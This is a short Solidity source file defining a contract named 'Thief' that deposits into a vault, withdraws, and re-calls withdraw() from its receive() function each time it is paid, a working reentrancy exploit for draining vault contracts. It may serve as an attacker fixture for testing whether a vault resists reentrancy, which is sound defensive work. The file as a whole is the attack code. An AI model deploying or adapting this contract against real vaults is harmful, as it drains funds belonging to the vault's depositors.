// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.37;

interface IVault {
    function deposit() external payable;
    function withdraw() external;
}

/// Puts money into a vault, takes it out again, and calls the vault once more whenever it is paid.
contract Thief {
    IVault public immutable vault;

    /// The vault refused a further call, with this revert data.
    event Refused(bytes reason);

    constructor(IVault target) {
        vault = target;
    }

    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (address(vault).balance < msg.value) return;
        try vault.withdraw() {} catch (bytes memory reason) {
            emit Refused(reason);
        }
    }
}
